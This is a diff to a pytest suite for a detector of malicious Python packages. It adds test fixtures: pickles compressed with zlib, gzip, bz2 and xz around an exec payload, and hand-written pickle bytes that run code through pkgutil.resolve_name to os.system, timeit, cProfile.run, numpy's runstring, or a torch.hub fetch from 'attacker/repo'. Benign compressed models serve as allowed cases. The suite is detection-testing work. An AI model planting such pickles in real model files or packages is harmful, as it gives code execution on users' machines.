@@ -9,11 +9,14 @@ as a recall check; ``ALLOWED`` holds the near-misses real packages write."""
 from __future__ import annotations
 
 import base64
+import bz2
 import codecs
 import gzip
 import io
 import json
+import lzma
 import zipfile
+import zlib
 
 import pytest
 
@@ -45,6 +48,10 @@ TRANSFORMS = (
     "https://www.themoonlight.io/review/one-detector-fits-all-robust-and-adaptive-detection-"
     "of-malicious-packages-from-pypi-to-enterprises"
 )
+GADGETS = (
+    "https://nuxt-hackernews-clone-xvvhang.vercel.app/item/47266286 (pkgutil.resolve_name); "
+    "https://arxiv.org/html/2508.19774v1 (loading paths and gadgets)"
+)
 BITTENSOR = "https://old.lemdro.id/post/26863909 (GitLab: typosquatted bittensor packages)"
 
 
@@ -68,6 +75,12 @@ def npy(pickled: bytes, descr: str = "'|O'") -> bytes:
     head = ("{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }").encode()
     head += b" " * (63 - (10 + len(head)) % 64) + b"\n"
     return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + pickled
+
+
+def call_pickle(module: str, name: str, *args: str) -> bytes:
+    """A protocol 0 pickle calling ``module.name(*args)`` (disassembled, never loaded)."""
+    pushed = "".join("V" + a + "\n" for a in args)
+    return f"c{module}\n{name}\n({pushed}tR.".encode()
 
 
 def npz(member: bytes) -> bytes:
@@ -109,6 +122,42 @@ NEW_DENIED: dict[str, tuple[Files, str]] = {
         ALIBABA,
     ),
     "numpy-npz-object-array-pickle": (init("", {"evpkg/w.npz": npz(npy(EXEC_PICKLE))}), ALIBABA),
+    # A model saved by joblib with compression, and pickles compressed for pandas.
+    "joblib-zlib-compressed-model": (
+        init(
+            "import joblib, os\n"
+            "m = joblib.load(os.path.join(os.path.dirname(__file__), 'model.joblib'))\n",
+            {"evpkg/model.joblib": zlib.compress(EXEC_PICKLE)},
+        ),
+        GADGETS + " (joblib's compressed loading path)",
+    ),
+    "pickle-gzipped-for-pandas": (
+        init("", {"evpkg/frame.pkl.gz": gzip.compress(EXEC_PICKLE, mtime=0)}),
+        GADGETS,
+    ),
+    "pickle-bz2": (init("", {"evpkg/frame.pkl.bz2": bz2.compress(EXEC_PICKLE)}), GADGETS),
+    "pickle-xz": (init("", {"evpkg/frame.pickle.xz": lzma.compress(EXEC_PICKLE)}), GADGETS),
+    # Callables outside the denylisted modules that run code when a pickle calls them.
+    "pickle-resolves-os-system-through-pkgutil": (
+        init("", {"evpkg/m.pkl": b"cpkgutil\nresolve_name\n(Vos:system\ntR(Vid\ntR."}),
+        GADGETS,
+    ),
+    "pickle-runs-code-through-timeit": (
+        init("", {"evpkg/m.pkl": call_pickle("timeit", "timeit", "id()")}),
+        GADGETS,
+    ),
+    "pickle-runs-code-through-numpy-testing": (
+        init("", {"evpkg/m.pkl": call_pickle("numpy.testing._private.utils", "runstring", "id()")}),
+        GADGETS,
+    ),
+    "pickle-fetches-a-hub-model": (
+        init("", {"evpkg/m.pkl": call_pickle("torch.hub", "load", "attacker/repo", "m")}),
+        GADGETS,
+    ),
+    "pickle-profiles-a-string": (
+        init("", {"evpkg/m.pkl": call_pickle("cProfile", "run", "id()")}),
+        GADGETS,
+    ),
     # A chat library's handler running what the author's accounts send it.
     "telegram-handler-runs-owner-text": (
         {
@@ -189,6 +238,10 @@ NEW_HELD: dict[str, tuple[Files, str]] = {
     "systemctl-poweroff-when-called": (
         init("import subprocess\ndef lock():\n    subprocess.run(['systemctl', 'poweroff'])\n"),
         PSSLIB + " (the Linux spelling)",
+    ),
+    "joblib-compressed-with-lz4": (
+        init("", {"evpkg/model.joblib": b"\x04\x22\x4d\x18" + bytes(32)}),
+        GADGETS + " (a compression airlock does not read)",
     ),
     "transfer-to-written-wallet-not-the-callers": (
         init(f"def tip(sub, amount):\n    return sub.transfer(dest='{WALLET}', amount=amount)\n"),
@@ -346,6 +399,19 @@ ALLOWED: dict[str, Files] = {
         "", {"evpkg/w.npy": npy(b"\x80\x02" + bytes(30) + b".", descr="'<f4'")}
     ),
     "numpy-npz-of-floats": init("", {"evpkg/w.npz": npz(npy(bytes(64), descr="'<f8'"))}),
+    # A scikit-learn model saved by joblib with compression; a gzipped frame of numbers.
+    "joblib-compressed-estimator": init(
+        "",
+        {
+            "evpkg/model.joblib": zlib.compress(
+                b"\x80\x02csklearn.linear_model._base\nLinearRegression\nq\x00)\x81q\x01."
+            )
+        },
+    ),
+    "gzipped-state-dict-pickle": init(
+        "", {"evpkg/state.pkl.gz": gzip.compress(STATE_PICKLE, mtime=0)}
+    ),
+    "gzipped-csv-beside-a-pickle-name": init("", {"evpkg/data.csv.gz": gzip.compress(b"a,b\n")}),
     # A bot whose admins come from settings; a size limit before a sandbox runs a snippet;
     # a support chat's id checked before a message is forwarded.
     "bot-admins-from-settings": init(
